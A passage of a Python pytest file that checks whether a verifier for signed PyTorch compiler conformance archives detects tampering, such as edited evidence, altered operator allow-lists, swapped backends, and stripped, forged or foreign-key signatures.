        "def call", "# .../scratch/00099/cache/a.py\ndef call"
    ),
    "a piece of code that no step has": lambda archive: archive.edit(
        lambda line: line["evidence"].update(MORE), TWO
    ),
}
CONTENTS |= {name: Kind("facts", change) for name, change in OF_FACTS.items()}


def outcome(kind: Kind, honest: Honest) -> Verification:
    archive = honest.archive
    kind.change(archive)
    if kind.repaired:
        archive.repaired()
    data = framed(
        b"".join(member(name, found) for name, found in sorted(archive.members.items()))
        + bytes(1024)
    )
    with contextlib.chdir(honest.folder):
        return verified(data, **kind.options)


@pytest.mark.parametrize("name", CONTENTS)
def test_another_content_is_found(name: str, honest: Honest) -> None:
    kind = CONTENTS[name]
    found = outcome(kind, honest)
    assert kind.check in {finding.check for finding in found.findings}, found
    assert found.exit_code is ExitCode.FAILED
    assert {finding.check for finding in found.findings} <= CHECKS.keys()
    if kind.repaired:
        assert not any("has another sha256" in finding.message for finding in found.findings), (
            "the digests are right"
        )


BY_OURS = ONE.replace("cpu", "ours")
OF_ANY = {
    "what ATen ran is left out": Kind("verdicts", journal(BY_OURS, by_aten={})),
    "the operators that ATen ran are said not to be measured": Kind(
        "verdicts", journal(BY_OURS, by_aten={}, eager_operators=-1)
    ),
    "the entry allows more": Kind(
        "profile", rewritten("files/own/b.yaml", "aten.mm]", "aten.mm, aten.cos]")
    ),
    "the entry allows nothing": Kind(
        "verdicts", rewritten("files/own/b.yaml", "{allow: [aten.mm]}", "all")
    ),
    "the statement has the proof of another entry": Kind(
        "profile", of_profile(lambda record: record.update(proof="compile.backend inductor"))
    ),
    "the statement is of another backend": Kind(
        "profile", of_profile(lambda record: record.update(compiler="cpu"))
    ),
    "--backend was another": Kind("profile", header_option(backend="cpu")),
}


@pytest.mark.parametrize("name", OF_ANY)
def test_another_compiler_or_proof_is_found(name: str, of_any: Honest) -> None:
    honest, found = outcome(Kind("", lambda archive: None), of_any), outcome(OF_ANY[name], of_any)
    assert (honest.findings, honest.exit_code) == ((), ExitCode.NOTHING)
    assert honest.statement is not None
    assert (
        honest.statement.about_compiler[1]
        == "its entry: compile.backend inductor; every operator computed by the compiler, "
        "aten.mm allowed by ATen"
    )
    assert OF_ANY[name].check in {finding.check for finding in found.findings}


def test_what_is_not_changed_is_verified(honest: Honest) -> None:
    for options in ({}, BY_MINE, {"specs": [honest.folder]}):
        found = outcome(Kind("", lambda archive: None, options=options), honest)
        assert (found.findings, found.unjudged, found.exit_code) == ((), (), ExitCode.OK)
        assert found.statement is not None
        assert found.statement.conformance.value == "CONFORMANT"
        assert (found.statement.executed, found.statement.required) == (4, 4)
    assert content(honest.data) == content(packing.packed(packing.unpacked(honest.data)))


def test_facts_that_take_too_long_are_found(
    honest: Honest, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(verification, "_SECONDS", 0.3)
    code = CODE.encode() + b"DeviceProperties(type='a'" * 100_000
    found = outcome(Kind("", lambda archive: archive.code(TWO, lambda _: code)), honest)
    assert any("more than 0.3 s" in finding.message for finding in found.findings)


def test_another_version_is_not_judged(honest: Honest) -> None:
    found = outcome(Kind("", lambda archive: journal("header", version="9.9")(archive)), honest)
    assert found.unjudged
    assert found.exit_code is not ExitCode.OK


# -- signatures ------------------------------------------------------------------------------------


def envelope(change: Callable[[dict[str, Any]], object]) -> Callable[[Archive], object]:
    def both(archive: Archive) -> None:
        found = json.loads(archive.members[ENVELOPE])
        change(found)
        archive.members[ENVELOPE] = packing.as_json(found)

    return both


def signed_by_other(archive: Archive) -> None:
    archive.repaired(signer=packing.key_id(OTHER.public_key()))
    archive.members[ENVELOPE] = packing.signed(archive.members[ATTESTATION], OTHER)


SIGNATURES: Mapping[str, Callable[[Archive], object]] = {
    "it is stripped": lambda archive: archive.members.pop(ENVELOPE),
    "it is stripped, and the attestation says so": lambda archive: archive.repaired(signer=""),
    "it is of another key": signed_by_other,
    "it is of another key, under the first one's name": under_its_name,
    "one bit of it is another": envelope(
        lambda found: found["signatures"][0].update(sig=base64.b64encode(bytes(64)).decode())
    ),
    "it signs another statement": envelope(
        lambda found: found.update(payload=base64.b64encode(b"{}").decode())
    ),
    "there are two": envelope(lambda found: found["signatures"].append(found["signatures"][0])),
    "it is of another type": envelope(lambda found: found.update(payloadType="text/plain")),
    "it is no JSON": lambda archive: archive.members.update({ENVELOPE: b"{"}),
    "the content is changed and repaired": lambda archive: (
        edited(JUNIT, r"\?>", "?> ")(archive),
        archive.repaired(),
    ),
}


@pytest.mark.parametrize("name", SIGNATURES)
def test_another_signature_is_found(name: str, honest: Honest) -> None:
    archive = Archive(packing.unpacked(honest.signed))
    SIGNATURES[name](archive)
    found = verified(packing.packed(archive.members), key=MINE.public_key())
    assert "signature" in {finding.check for finding in found.findings}
    assert found.exit_code is ExitCode.FAILED


def test_a_signature_is_checked_and_said(honest: Honest) -> None:
    found = verified(honest.signed, key=MINE.public_key())
    assert (found.findings, found.exit_code) == ((), ExitCode.OK)
    assert any("attested this archive" in claim for claim in found.follows)
    unchecked = verified(honest.signed)
    assert any("check it with --key" in claim for claim in unchecked.words)


# -- files that take the place of published ones ---------------------------------------------------


def test_a_spec_of_the_author_takes_no_published_id(honest: Honest, tmp_path: Path) -> None:
    (tmp_path / "run.jsonl").write_bytes(honest.archive.members[JOURNAL])
    results = read_run(tmp_path / "run.jsonl").results
    assert not list(stolen(results))
    (problem,) = stolen(
        [replace(results[0], case_id=CaseId("codecache/fx-cache-hit[backend=cpu]"))]
    )
    assert "takes the ids of the published spec codecache/fx-cache-hit" in problem


def test_a_traceback_is_folded_by_folders_that_a_submission_lacks(honest: Honest) -> None:
    folded = Verdict(
        kind="raised",
        status=Status.FAILED,
        position=Position(file="a.yaml", line=1),
        detail="  ... 6 frames ...",
    )
    whole = replace(folded, detail="  File a.py\n  File b.py")
    assert rejudge.is_same_text(folded, whole)
    assert not rejudge.is_same_text(
        replace(folded, kind="filecheck"), replace(whole, kind="filecheck")
    )
